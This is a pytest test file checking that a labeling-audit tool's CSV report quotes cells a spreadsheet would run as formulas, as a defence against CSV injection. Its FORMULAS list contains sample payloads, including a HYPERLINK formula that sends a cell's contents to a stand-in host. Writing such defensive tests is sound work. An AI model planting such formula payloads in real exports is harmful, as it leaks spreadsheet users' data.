"""relabel_queue.csv is opened in spreadsheets: a cell that starts like a formula must stay text (OWASP's
CSV injection rule), and every other cell must come back exactly as it was."""

from __future__ import annotations

import csv

import pytest

from labelaudit.serving.report.job import night_window, run_report, spreadsheet_cell
from tests.report.reportkit import CAT, DOG, NIGHT, fill, record

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


def test_cells_that_a_spreadsheet_would_run_are_quoted_and_the_rest_are_not(tmp_path):
    labelers = FORMULAS[:4]  # the report's figures name labelers: no tab or CR there
    records = [
        record(item, labelers[i % 4], "cat", "dog", DOG, flag=True, score=0.9 - i / 100)
        for i, item in enumerate(FORMULAS)
    ]
    records.append(record("plain-1", "anna", "dog", "cat", CAT, flag=True, score=0.5))
    store = fill(f"sqlite:///{tmp_path / 'audit.db'}", records)
    written = run_report(store, night_window(NIGHT), tmp_path / "reports")
    rows = list(csv.DictReader(written.csv.open(newline="", encoding="utf-8")))
    assert len(rows) == len(FORMULAS) + 1
    by_item = {q.item_id: q for q in written.report.relabel_queue}
    for row in rows[:-1]:
        assert row["item_id"][0] == "'" and row["item_id"][1:] in FORMULAS, row
        assert row["labeler_id"][0] == "'" and row["labeler_id"][1:] in labelers, row
        assert float(row["score"]) == pytest.approx(by_item[row["item_id"][1:]].score)  # numbers stay numbers
    plain = rows[-1]
    assert (plain["item_id"], plain["labeler_id"], plain["human_label"], plain["rank"]) == (
        "plain-1",
        "anna",
        "dog",
        "7",
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
        (-0.5, -0.5),
        (3, 3),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell
